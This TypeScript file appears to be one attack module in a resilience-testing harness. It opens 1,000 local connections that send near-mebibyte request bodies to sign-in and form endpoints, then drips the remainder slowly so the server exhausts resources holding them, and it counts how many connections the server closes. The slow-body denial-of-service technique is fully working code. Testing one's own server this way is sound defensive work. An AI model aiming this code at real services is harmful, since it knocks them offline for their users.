import { connect, type Socket } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import type { Attack, AttackContext } from '../../attack.ts';
import { besideBystanders } from '../../bystanders/bystanders.ts';

const CONNECTIONS = 1_000;

/** Bytes of a body that are sent first, then every `EVERY` ms: just fast enough not to count as stalled. */
const ANNOUNCED = 1_048_576;
const AT_ONCE = 1_030_000;
const DRIP = 1_100;
const EVERY = 7_000;

/** Paths that accept bodies without a sign-in, and one that does not exist. */
const PATHS = ['/api/partner/auth/login', '/api/misc/contact-message', '/no/such/page'];

export const drippingBodies: Attack = {
  name: 'dripping-bodies',
  about:
    '1,000 connections of visitors each send almost a mebibyte to the sign-in, a public form and an unknown path, half of them without a length. The rest of each body follows a few bytes at a time.',
  async run(context) {
    const target = await context.startTarget();
    return besideBystanders(target, () => drip(context, target.port));
  },
};

async function drip({ short }: AttackContext, port: number) {
  const sockets: Socket[] = [];
  let cut = 0;
  for (let number = 0; number < CONNECTIONS; number += 1) {
    sockets.push(open(port, PATHS[number % PATHS.length] ?? '/', number % 2 === 0));
    sockets.at(-1)?.once('close', () => {
      cut += 1;
    });
    if (number % 20 === 0) await pause(25);
  }
  const timer = setInterval(() => {
    for (const socket of sockets) if (socket.writable) socket.write(chunk(DRIP));
  }, EVERY);
  await pause(short ? 5_000 : 25_000);
  clearInterval(timer);
  const count = cut;
  for (const socket of sockets) socket.destroy();
  return {
    figures: [
      { what: 'connections with large bodies', count: CONNECTIONS },
      { what: 'of these closed by the server', count },
    ],
    findings: [],
  };
}

function open(port: number, path: string, hasLength: boolean): Socket {
  const socket = connect({ port, host: '127.0.0.1', noDelay: true });
  socket.on('error', () => {});
  const length = hasLength ? `Content-Length: ${ANNOUNCED}` : 'Transfer-Encoding: chunked';
  socket.write(
    `POST ${path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n${length}\r\n\r\n`,
  );
  socket.write(hasLength ? plain(AT_ONCE) : chunk(AT_ONCE));
  socket.resume();
  return socket;
}

/** The beginning of a JSON body that never ends. */
const plain = (length: number) => Buffer.alloc(length, ' ');

const chunk = (length: number) =>
  Buffer.concat([Buffer.from(`${length.toString(16)}\r\n`), plain(length), Buffer.from('\r\n')]);
